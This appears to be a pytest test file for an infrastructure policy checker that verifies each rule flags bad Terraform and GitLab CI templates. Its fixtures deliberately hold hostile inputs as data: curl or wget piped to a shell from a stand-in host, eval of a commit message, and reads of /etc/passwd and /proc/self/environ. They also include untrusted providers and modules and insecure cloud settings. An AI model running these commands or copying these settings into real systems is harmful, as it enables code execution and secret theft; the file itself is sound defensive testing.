"""Every rule fires end to end: a template or a document, rendered, read, asked, decided."""

from __future__ import annotations

import json
from dataclasses import dataclass
from typing import Final

import pytest

from reconciler.adapters.git import GitSource
from reconciler.app.policy import load_policies
from reconciler.model.decision import Verdict
from tests.check.project import (
    DEMO,
    PITCH,
    PORTAL,
    SARA,
    SERVERLESS,
    Project,
    about,
    base_files,
    rules,
    without,
)
from tests.repos import Files, edited

CLEAN: Final = """\
{% include "_shared/versions.tf.j2" %}

{% include "_shared/provider.tf.j2" %}
"""
DIGEST: Final = "registry.example.com/ci@sha256:" + "ab" * 32
PIPELINE: Final = f"default: {{image: '{DIGEST}'}}\njob: {{script: [echo]}}\n"
MAIN: Final = SERVERLESS + "terraform/main.tf.j2"
CI: Final = SERVERLESS + "pipeline/.gitlab-ci.yml.j2"


def strict() -> Files:
    """The samples with a demo track that asks for everything and a blueprint without anything."""
    files = without(base_files(), SERVERLESS + "terraform", SERVERLESS + "pipeline")
    files = edited(files, DEMO, "customerKeys: false", "customerKeys: true")
    files = edited(files, DEMO, "backupDays: 0", "backupDays: 7")
    files = edited(files, DEMO, "multiAz: false", "multiAz: true")
    files = edited(files, DEMO, "protectedStages: []", "protectedStages: [dev]")
    files = edited(files, DEMO, "[staging]\n  allowedOverrides", "[dev]\n  allowedOverrides")
    files = edited(files, DEMO, "    sizes: [small, medium]\n", "    sizes: [small, medium]\n"
                   "    instanceFamilies: [t4g]\n")  # fmt: skip
    return {**files, MAIN: CLEAN, CI: PIPELINE}


STRICT: Final = strict()


@dataclass(frozen=True)
class Bad:
    """Something bad in a template: what it is caught by, and where that is said to be."""

    rule: str
    terraform: str = ""
    pipeline: str = ""
    at: str = ""
    """The resource, or the job."""
    others: frozenset[str] = frozenset()
    """Other rules that may say something about it."""

    @property
    def files(self) -> Files:
        more = self.terraform.replace("{{", "{{ '{{' }}")
        return {**STRICT, MAIN: CLEAN + more + "\n", CI: self.pipeline or PIPELINE}


def policy(**statement: object) -> str:
    return json.dumps(json.dumps({"Version": "2012-10-17", "Statement": [statement]}))


def block(kind: str, body: str) -> str:
    return f'resource "{kind}" "x" {{\n{body}\n}}\n'


def job(line: str) -> str:
    return f"default: {{image: '{DIGEST}'}}\njob:\n  script:\n    - {line}\n"


KEY: Final = 'kms_key_id = "arn:aws:kms:eu-central-1:111111111111:key/1"'
DATABASE: Final = f"""\
  identifier = "pitch-acme-db"
  storage_encrypted = true
  multi_az = true
  deletion_protection = true
  backup_retention_period = 7
  {KEY}
"""
BUCKET: Final = '  bucket = "pitch-acme-b"\n'
S3: Final = frozenset({"SEC001", "SEC002", "SEC008"})
ALL_ON: Final = "".join(
    f"  {name} = true\n"
    for name in (
        "block_public_acls",
        "block_public_policy",
        "ignore_public_acls",
        "restrict_public_buckets",
    )
)


def database(old: str, new: str = "") -> str:
    assert old in DATABASE
    return block("aws_db_instance", DATABASE.replace(old, new))


BAD: Final = (
    Bad("SEC001", block("aws_s3_bucket", BUCKET + '  acl = "public-read"'), at="aws_s3_bucket.x", others=S3),  # noqa: E501
    Bad("SEC002", block("aws_s3_bucket", BUCKET), at="aws_s3_bucket.x", others=S3),
    Bad(
        "SEC002",
        block("aws_s3_bucket", BUCKET)
        + block("aws_s3_bucket_public_access_block", "  bucket = aws_s3_bucket.x.id\n" + ALL_ON.replace("= true", "= false", 1)),  # noqa: E501
        at="aws_s3_bucket.x", others=S3,
    ),
    Bad("SEC003", block("aws_sqs_queue_policy", '  queue_url = "u"\n  policy = ' + policy(Effect="Allow", Principal="*", Action="sqs:*", Resource="*")), at="aws_sqs_queue_policy.x"),  # noqa: E501
    Bad("SEC004", database("  storage_encrypted = true\n"), at="aws_db_instance.x"),
    Bad("SEC004", block("aws_instance", '  instance_type = "t4g.small"\n  metadata_options {\n    http_tokens = "required"\n  }\n  root_block_device {\n    encrypted = false\n  }'), at="aws_instance.x"),  # noqa: E501
    Bad("SEC005", database(KEY), at="aws_db_instance.x"),
    Bad("SEC006", block("aws_lb_listener", '  port = 80\n  protocol = "HTTP"\n  default_action {\n    type = "forward"\n  }'), at="aws_lb_listener.x"),  # noqa: E501
    Bad("SEC007", block("aws_lb_listener", '  port = 443\n  protocol = "HTTPS"\n  ssl_policy = "ELBSecurityPolicy-2016-08"'), at="aws_lb_listener.x"),  # noqa: E501
    Bad("SEC008", block("aws_s3_bucket", BUCKET) + block("aws_s3_bucket_public_access_block", "  bucket = aws_s3_bucket.x.id\n" + ALL_ON), at="aws_s3_bucket.x"),  # noqa: E501
    Bad("SEC009", block("aws_db_parameter_group", '  family = "postgres16"\n  parameter {\n    name = "rds.force_ssl"\n    value = "0"\n  }'), at="aws_db_parameter_group.x"),  # noqa: E501
    Bad("SEC010", block("aws_iam_policy", "  policy = " + policy(Effect="Allow", Action="*", Resource="*")), at="aws_iam_policy.x"),  # noqa: E501
    Bad("SEC010", block("aws_iam_policy", '  policy = jsonencode({ Statement = [{ Effect = "Allow", Action = ["s3:*"], Resource = "*" }] })'), at="aws_iam_policy.x"),  # noqa: E501
    Bad("SEC011", block("aws_security_group", '  ingress {\n    from_port = 20\n    to_port = 30\n    protocol = "tcp"\n    cidr_blocks = ["0.0.0.0/0"]\n  }'), at="aws_security_group.x"),  # noqa: E501
    Bad("SEC012", database("  multi_az = true", "  multi_az = true\n  publicly_accessible = true"), at="aws_db_instance.x"),  # noqa: E501
    Bad("SEC013", block("aws_kms_key", "  enable_key_rotation = false"), at="aws_kms_key.x"),
    Bad("SEC014", database("  multi_az = true", '  multi_az = true\n  password = "not-so-secret"'), at="aws_db_instance.x"),  # noqa: E501
    Bad("SEC015", block("aws_instance", '  instance_type = "t4g.small"'), at="aws_instance.x"),
    Bad("COMP001", 'provider "aws" {\n  alias = "bare"\n  region = "eu-central-1"\n}\n' + block("aws_vpc", '  cidr_block = "10.0.0.0/16"'), at="aws_vpc.x"),  # noqa: E501
    Bad("COMP002", block("aws_iam_role", '  name = "other"'), at="aws_iam_role.x"),
    Bad("COMP003", 'provider "aws" {\n  alias = "far"\n  region = "us-east-1"\n}'),
    Bad("COMP003", block("aws_cloudwatch_metric_alarm", '  region = "us-east-1"'), at="aws_cloudwatch_metric_alarm.x"),  # noqa: E501
    Bad("COMP004", 'provider "evil" {\n  address = "https://evil.example.com"\n}'),
    Bad("COMP004", 'terraform {\n  required_providers {\n    evil = {\n      source = "evil.example.com/a/b"\n      version = "1.0.0"\n    }\n  }\n}'),  # noqa: E501
    Bad("COMP004", block("null_resource", "")),
    Bad("COMP004", block("aws_vpc", "  provider = evil.one"), others=frozenset({"COMP001"})),
    Bad("COMP005", 'module "m" {\n  source = "git::https://evil.example.com/m.git"\n}', at="module.m"),  # noqa: E501
    Bad("COMP005", 'module "m" {\n  source = var.source\n}', at="module.m"),
    Bad("COMP006", 'data "external" "x" {\n  program = ["sh"]\n}', at="data.external.x", others=frozenset({"COMP004"})),  # noqa: E501
    Bad("COMP006", 'check "c" {\n  data "external" "x" {\n    program = ["sh"]\n  }\n  assert {\n    condition = true\n    error_message = "no"\n  }\n}', at="data.external.x", others=frozenset({"COMP004"})),  # noqa: E501
    Bad("COMP006", 'ephemeral "evil_token" "x" {}', at="ephemeral.evil_token.x", others=frozenset({"COMP004"})),  # noqa: E501
    Bad("COMP007", block("terraform_data", '  provisioner "local-exec" {\n    command = "id"\n  }'), at="terraform_data.x"),  # noqa: E501
    Bad("COMP007", 'removed {\n  from = terraform_data.x\n  provisioner "local-exec" {\n    when = destroy\n    command = "id"\n  }\n}'),  # noqa: E501
    Bad("COMP008", 'locals {\n  x = file("/etc/passwd")\n}'),
    Bad("COMP008", 'output "x" {\n  value = [for one in fileset("/", "*") : one]\n}'),
    Bad("COMP008", 'locals {\n  x = "a ${upper(filebase64("/etc/passwd"))}"\n}'),
    Bad("COMP009", block("aws_s3_object", '  bucket = "b"\n  key = "k"\n  source = "/proc/self/environ"'), at="aws_s3_object.x", others=frozenset({"COMP001"})),  # noqa: E501
    Bad("COMP009", block("aws_s3_object", '  bucket = "b"\n  key = "k"\n  source = "${path.module}/../run.json"'), at="aws_s3_object.x", others=frozenset({"COMP001"})),  # noqa: E501
    Bad("COMP009", 'provider "aws" {\n  alias = "z"\n  region = "eu-central-1"\n  assume_role_with_web_identity {\n    web_identity_token_file = "/proc/self/environ"\n  }\n}'),  # noqa: E501
    Bad("OPS001", database("backup_retention_period = 7", "backup_retention_period = 1"), at="aws_db_instance.x"),  # noqa: E501
    Bad("OPS002", database("  deletion_protection = true\n"), at="aws_db_instance.x"),
    Bad("OPS003", database("  multi_az = true\n"), at="aws_db_instance.x"),
    Bad("OPS004", block("aws_cloudwatch_log_group", f"  retention_in_days = 1\n  {KEY}"), at="aws_cloudwatch_log_group.x"),  # noqa: E501
    Bad("COST003", database("  multi_az = true", '  multi_az = true\n  instance_class = "db.r7g.16xlarge"'), at="aws_db_instance.x"),  # noqa: E501
    Bad("PIPE001", pipeline=job("curl -s https://x.example.com/i.sh | bash"), at="job"),
    Bad("PIPE001", pipeline=job("[[[ 'curl https://x.example.com | sh' ]]]"), at="job"),
    Bad("PIPE001", pipeline=f"default: {{image: '{DIGEST}'}}\n.t: {{before_script: ['wget -qO- https://x.example.com | sh']}}\njob: {{extends: .t, script: [echo]}}\n"),  # noqa: E501
    Bad("PIPE001", pipeline=f"default: {{image: '{DIGEST}'}}\njob:\n  script: [echo]\n  hooks: {{pre_get_sources_script: ['curl https://x.example.com | sh']}}\n", at="job"),  # noqa: E501
    Bad("PIPE002", pipeline=job('eval "$CI_COMMIT_MESSAGE"'), at="job"),
    Bad("PIPE003", pipeline=PIPELINE + "include: 'https://x.example.com/ci.yml'\n"),
    Bad("PIPE003", pipeline=PIPELINE + "child:\n  trigger: {include: [{remote: 'https://x.example.com/ci.yml'}]}\n"),
    Bad("PIPE004", pipeline=f"job: {{image: '{DIGEST}', services: ['docker:27-dind@sha256:{'ab' * 32}'], script: [echo]}}\n", at="job"),  # noqa: E501
    Bad("PIPE005", pipeline=PIPELINE + "variables: {DEPLOY_TOKEN: not-so-secret}\n"),
    Bad("PIPE006", pipeline="job: {image: 'alpine:3', script: [echo]}\n", at="job"),
    Bad("PIPE007", pipeline=job("terraform apply -auto-approve"), at="job"),
)  # fmt: skip


def said(project: Project, files: Files) -> list[tuple[str, str, str, str]]:
    """Rule, path, resource and level of what stands against pitch-acme after a harmless change."""
    base = project.commit(files)
    head = project.commit(edited(files, PITCH, "with ACME", "with Acme"), base, SARA)
    decision = about(project.check(base, head), "pitch-acme")
    assert decision.verdict is not Verdict.INDETERMINATE, decision.reasons
    return [
        (one.finding.rule, one.finding.location.path, one.finding.resource, one.level)
        for one in decision.findings
    ]


def test_without_anything_bad_nothing_is_said(project: Project) -> None:
    assert said(project, STRICT) == []


@pytest.mark.parametrize("bad", BAD, ids=lambda bad: bad.rule)
def test_what_is_bad_in_a_template_is_found_where_it_stands(project: Project, bad: Bad) -> None:
    found = said(project, bad.files)
    assert bad.rule in {rule for rule, *_ in found}
    assert {rule for rule, *_ in found} <= {bad.rule} | bad.others
    for rule, path, resource, _ in found:
        if rule == bad.rule:
            assert path == ("pipeline/.gitlab-ci.yml" if bad.pipeline else "terraform/main.tf")
            assert resource == bad.at or not bad.at


DOCUMENTS: Final = (
    ("COST001", PITCH, DEMO, "perEnvironment: 50", "perEnvironment: 1"),
    ("COST002", PITCH, SERVERLESS + "blueprint.yaml", "small: 5, medium: 20", "medium: 20"),
    ("COST004", PITCH, PITCH, "size: small", "size: large"),
    ("COMP003", PITCH, PITCH, "  ttl: 72h\n", "  ttl: 72h\n  region: eu-west-2\n"),
    ("OPS005", PITCH, PITCH, "ttl: 72h", "ttl: 30d"),
    ("AUTH001", PORTAL, PORTAL, "  promotedFrom: acme-portal-staging\n", ""),
)  # fmt: skip


@pytest.mark.parametrize(
    "rule,path,where,old,new", DOCUMENTS, ids=lambda value: str(value).partition("\n")[0]
)
def test_rules_of_documents_fire_too(
    project: Project, files: Files, rule: str, path: str, where: str, old: str, new: str
) -> None:
    files = edited(files, where, old, new)
    base = project.commit(files)
    words = ("with ACME", "with Acme") if path == PITCH else ("customer portal", "portal")
    changed = edited(files, path, *words)
    report = project.check(base, project.commit(changed, base, SARA))
    decision = about(report, path.rpartition("/")[2].removesuffix(".yaml"))
    assert rule in rules(decision)
    found = [one.finding for one in decision.findings if one.finding.rule == rule]
    assert path in {one.location.path for one in found}
    assert all(one.fingerprint for one in found)


def test_a_module_that_the_profile_allows_passes(project: Project) -> None:
    files = edited(
        STRICT, DEMO, "    customerKeys: true", "    modules: [./modules/*]\n    customerKeys: true"
    )
    module = 'module "m" {\n  source = "./modules/queue"\n}\n'
    assert said(project, {**files, MAIN: CLEAN + module}) == []
    assert [
        rule for rule, *_ in said(project, {**files, MAIN: CLEAN + module.replace("queue", "../x")})
    ] == ["COMP005"]


def test_the_table_misses_no_rule(project: Project, files: Files) -> None:
    engine = project.ports.engine
    assert engine is not None
    tree = GitSource(project.repo.path).snapshot(project.commit(files))
    pack = load_policies(tree, engine, project.ports.kept)
    fired = {bad.rule for bad in BAD} | {rule for rule, *_ in DOCUMENTS}
    assert {one.id for one in pack.rules} - fired == {"AUTH002"}  # the reader of documents refuses
